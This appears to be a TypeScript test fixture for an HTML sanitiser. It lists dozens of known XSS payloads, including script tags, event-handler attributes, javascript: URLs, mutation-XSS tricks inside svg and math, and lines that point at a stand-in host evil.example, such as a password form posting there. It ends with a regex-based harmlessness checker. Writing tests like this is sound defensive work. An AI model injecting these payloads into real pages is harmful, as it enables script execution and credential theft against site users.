/** Markup that has run code in some browser behind some sanitiser; none of it may run on a page. */
export const hostileHtml = [
  '<script>alert(1)</script>',
  '<ScRiPt\n>alert(1)</sCrIpT >',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x:x onerror=alert(1)//',
  '<img/src="x"/onerror=alert(1)>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<p onclick="alert(1)" style="background:url(javascript:alert(1))" class="x">a</p>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href=" &#14; javascript:alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href="java&#10;script:alert(1)">a</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="//evil.example">a</a>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example"</style>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<select><option><style></option></select><img src=x onerror=alert(1)>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]--><!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]><?xml-stylesheet href="javascript:alert(1)"?>',
  '<p title="<img src=x onerror=alert(1)>">&lt;img src=x onerror=alert(1)&gt;</p>',
  '<custom-element onclick=alert(1) is="x">text</custom-element>',
  '[click](javascript:alert(1)) <javascript:alert(1)>',
  '<p>\u0000<scr\u0000ipt>alert(1)</script>',
];

const allowedTag =
  /^<\/?(p|h[234]|ul|ol|li|blockquote|pre|figure|figcaption|hr|br|strong|b|em|i|u|s|sub|sup|code|a|img|table|caption|thead|tbody|tfoot|tr|th|td)(?=[\s/>])/;

/** Whether nothing in markup that was cleaned can run. */
export function isHarmless(html: string): boolean {
  const tags = html.match(/<[^>]*>?/g) ?? [];
  const attributes = tags.join(' ').replace(/"[^"]*"/g, '""');
  const addresses = [...html.matchAll(/ (?:href|src)="([^"]*)"/g)].map(([, address = '']) => address);
  return (
    tags.every((tag) => allowedTag.test(tag)) &&
    !/\son\w+|\bstyle\b|\bclass\b|srcset|xlink|formaction/i.test(attributes) &&
    addresses.every((address) => /^(https?:\/\/|mailto:|tel:|\/(?!\/)|#|[\w.-]+$)/.test(address))
  );
}
